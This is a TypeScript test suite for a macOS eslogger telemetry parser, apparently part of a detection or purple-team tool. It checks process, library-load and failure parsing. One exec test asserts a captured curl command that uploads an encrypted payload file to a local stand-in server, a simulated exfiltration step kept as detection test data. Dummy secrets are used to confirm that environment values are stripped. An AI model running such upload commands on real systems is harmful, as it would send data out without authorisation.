import { describe, test } from 'node:test';
import assert from 'node:assert/strict';
import { readFileSync } from 'node:fs';
import { makeEntityId, type TelemetryEvent } from '../../src/model/index.js';
import { readAuditToken } from '../../collectors/eslogger/audit-token.js';
import { createEsloggerParser } from '../../collectors/eslogger/parse.js';
import { classifyEsloggerFailure } from '../../collectors/eslogger/failure.js';
import { isCryptoLibrary } from '../../collectors/eslogger/crypto-libraries.js';

const HOST = 'host-1';
const fixture = (name: string): string[] =>
  readFileSync(new URL(`../fixtures/eslogger/${name}`, import.meta.url), 'utf8').split('\n').filter((l) => l !== '');

function parseAll(lines: string[], opts: { keepEnv?: boolean; libraryLoads?: boolean } = {}): { events: TelemetryEvent[]; skipped: number; malformed: string[]; lost: number } {
  const p = createEsloggerParser({ hostId: HOST, hostName: 'mac-1', ...opts });
  const events: TelemetryEvent[] = [];
  let skipped = 0;
  const malformed: string[] = [];
  for (const l of lines) {
    const r = p.parse(l);
    if (r.kind === 'events') events.push(...r.events);
    else if (r.kind === 'skipped') skipped++;
    else malformed.push(r.message);
  }
  return { events, skipped, malformed, lost: p.lostRecords() };
}

describe('readAuditToken', () => {
  const cases: Array<{ name: string; input: unknown; want: ReturnType<typeof readAuditToken> }> = [
    {
      name: 'object (message version <= 9)',
      input: { auid: 501, euid: 0, egid: 20, ruid: 501, rgid: 20, pid: 97391, asid: 100019, pidversion: 149091 },
      want: { pid: 97391, pidversion: 149091, auid: 501, euid: 0, egid: 20, ruid: 501, rgid: 20, asid: 100019 },
    },
    {
      name: '8-integer array (message version 10): index 5 pid, 7 pidversion, 1 euid',
      input: [501, 0, 20, 502, 21, 21497, 100013, 38282],
      want: { pid: 21497, pidversion: 38282, auid: 501, euid: 0, egid: 20, ruid: 502, rgid: 21, asid: 100013 },
    },
    { name: 'array of the wrong length', input: [1, 2, 3], want: undefined },
    { name: 'object without pid', input: { pidversion: 3 }, want: undefined },
    { name: 'not a token', input: 'pid=5', want: undefined },
  ];
  for (const c of cases) test(c.name, () => assert.deepEqual(readAuditToken(c.input), c.want));
});

describe('eslogger parser: both audit-token shapes give the same events', () => {
  for (const name of ['object-tokens-v9.ndjson', 'array-tokens-v10.ndjson']) {
    describe(name, () => {
      const { events, skipped, malformed, lost } = parseAll(fixture(name));
      const byAction = (a: string): TelemetryEvent[] => events.filter((e) => e.event.action === a);

      test('maps fork, exec, exit and crypto mmap; skips open and non-crypto mmap', () => {
        assert.deepEqual(
          events.map((e) => `${e.event.category}/${e.event.type}/${e.event.action}`),
          ['process/start/fork', 'process/start/exec', 'library/start/load', 'process/start/fork', 'process/start/exec', 'process/end/exit', 'process/end/exit'],
        );
        assert.equal(skipped, 2);
        assert.deepEqual(malformed, []);
      });

      test('exec image is event.exec.target, not the pre-exec process', () => {
        const [python, curl] = byAction('exec');
        assert.equal(python?.process?.executable, '/Library/Frameworks/Python.framework/Versions/3.12/bin/python3.12');
        assert.equal(python?.process?.name, 'python3.12');
        assert.equal(python?.process?.entity_id, makeEntityId(HOST, 4242, 201));
        assert.equal((python?.['eslogger'] as { previous_executable?: string }).previous_executable, '/bin/zsh');
        assert.equal(curl?.process?.executable, '/usr/bin/curl');
        assert.deepEqual(curl?.process?.args, ['curl', '-sS', '--data-binary', '@/tmp/purple run/payload.enc', 'http://127.0.0.1:8443/upload']);
        assert.equal(curl?.process?.command_line, 'curl -sS --data-binary "@/tmp/purple run/payload.enc" http://127.0.0.1:8443/upload');
        assert.equal(curl?.process?.working_directory, '/private/tmp/purple-ws');
      });

      test('long arguments survive whole', () => {
        const python = byAction('exec')[0];
        const code = python?.process?.args?.[2] ?? '';
        assert.ok(code.length > 4000, `argument length ${code.length}`);
        assert.ok(code.endsWith('x=1;'));
        assert.equal(python?.process?.args_count, 5);
      });

      test('parent links use pid + pidversion of parent_audit_token', () => {
        const curl = byAction('exec')[1];
        assert.equal(curl?.process?.parent?.pid, 4242);
        assert.equal(curl?.process?.parent?.entity_id, makeEntityId(HOST, 4242, 201));
        assert.equal(curl?.process?.parent?.executable, '/Library/Frameworks/Python.framework/Versions/3.12/bin/python3.12');
        assert.ok(curl?.process?.parent?.command_line?.startsWith('python3 -c '));
      });

      test('fork: the child is the process, the forking process its parent, argv inherited', () => {
        const fork = byAction('fork')[1];
        assert.equal(fork?.process?.pid, 4243);
        assert.equal(fork?.process?.entity_id, makeEntityId(HOST, 4243, 300));
        assert.equal(fork?.process?.parent?.entity_id, makeEntityId(HOST, 4242, 201));
        assert.equal(fork?.process?.args?.[0], 'python3');
      });

      test('signing info, user ids, host and timestamp with microseconds', () => {
        const python = byAction('exec')[0];
        assert.deepEqual(python?.process?.code_signature, { signing_id: 'org.python.python', team_id: 'DJ3H93M7VJ', platform_binary: false });
        assert.deepEqual(python?.user, { id: '501', effective: { id: '501' } });
        assert.deepEqual(python?.host, { name: 'mac-1', id: HOST, os: { type: 'macos' } });
        assert.match(python?.['@timestamp'] ?? '', /^2025-08-07T13:2\d:35\.200456Z$/);
        assert.equal(python?.event.dataset, 'eslogger');
      });

      test('crypto mmap becomes a library load with dll path and name', () => {
        const load = byAction('load')[0];
        assert.equal(load?.dll?.name, '_rust.abi3.so');
        assert.equal(load?.process?.entity_id, makeEntityId(HOST, 4242, 201));
      });

      test('env is dropped by default', () => {
        const text = JSON.stringify(events);
        assert.ok(!text.includes('wJalrXUtnFEMI'), 'secret from env leaked');
        assert.ok(!text.includes('hunter2'));
      });

      test('exit keeps the raw wait status; gaps in global_seq_num count as lost', () => {
        const exits = byAction('exit');
        assert.deepEqual(
          exits.map((e) => (e['eslogger'] as { exit_stat?: number }).exit_stat),
          [0, 256],
        );
        assert.equal(lost, 2);
      });

      test('event ids are deterministic and unique', () => {
        const again = parseAll(fixture(name)).events.map((e) => e.event.id);
        assert.deepEqual(events.map((e) => e.event.id), again);
        assert.equal(new Set(again).size, again.length);
      });
    });
  }

  test('object and array token captures of the same story give the same entity ids', () => {
    const ids = (name: string): Array<string | undefined> => parseAll(fixture(name)).events.map((e) => e.process?.entity_id);
    assert.deepEqual(ids('object-tokens-v9.ndjson'), ids('array-tokens-v10.ndjson'));
  });
});

describe('eslogger parser options', () => {
  test('keepEnv keeps the environment', () => {
    const { events } = parseAll(fixture('object-tokens-v9.ndjson'), { keepEnv: true });
    const env = (events.find((e) => e.event.action === 'exec')?.['eslogger'] as { env?: string[] }).env;
    assert.ok(env?.some((x) => x.startsWith('AWS_SECRET_ACCESS_KEY=')));
  });
  test('libraryLoads: false skips mmap', () => {
    const { events } = parseAll(fixture('object-tokens-v9.ndjson'), { libraryLoads: false });
    assert.equal(events.filter((e) => e.event.category === 'library').length, 0);
  });
});

describe('eslogger parser: malformed input is reported, never thrown', () => {
  const { events, malformed } = parseAll(fixture('malformed.ndjson'));
  test('valid lines around bad ones still parse', () => assert.equal(events.length, 2));
  const cases = [
    /not JSON/, // truncated line
    /not JSON/, // an error message on stdout
    /not a JSON object/, // an array
    /no "event" object/,
    /missing or unparseable "time"/,
    /missing "process"/, // 3-element array token
    /exec without "target"/,
  ];
  test('each bad line has its reason, in order', () => {
    assert.equal(malformed.length, cases.length);
    cases.forEach((re, i) => assert.match(malformed[i] ?? '', re));
  });
});

describe('classifyEsloggerFailure', () => {
  const cases: Array<[string, string | undefined]> = [
    ['Failed to create ES client: ES_NEW_CLIENT_RESULT_ERR_NOT_PERMITTED\n', 'not-permitted'],
    ['ES_NEW_CLIENT_RESULT_ERR_NOT_PRIVILEGED', 'not-privileged'],
    ['sudo: a password is required\n', 'sudo-password'],
    ['ES_NEW_CLIENT_RESULT_ERR_TOO_MANY_CLIENTS', 'too-many-clients'],
    ['', undefined],
    ['some unrelated warning', undefined],
  ];
  for (const [stderr, kind] of cases) {
    test(JSON.stringify(stderr), () => assert.equal(classifyEsloggerFailure(stderr)?.kind, kind));
  }
  test('the not-permitted fix names Full Disk Access', () => {
    assert.match(classifyEsloggerFailure('ERR_NOT_PERMITTED')?.fix ?? '', /Full Disk Access/);
  });
});

describe('isCryptoLibrary', () => {
  const cases: Array<[string, boolean]> = [
    ['/opt/homebrew/Cellar/openssl@3/3.3.1/lib/libcrypto.3.dylib', true],
    ['/usr/lib/system/libcommonCrypto.dylib', true],
    ['/x/site-packages/cryptography/hazmat/bindings/_rust.abi3.so', true],
    ['/x/Crypto/Cipher/_raw_aes.abi3.so', true],
    ['/usr/lib/libz.1.dylib', false],
    ['/x/lib-dynload/_json.cpython-312-darwin.so', false],
  ];
  for (const [path, want] of cases) test(path, () => assert.equal(isCryptoLibrary(path), want));
});
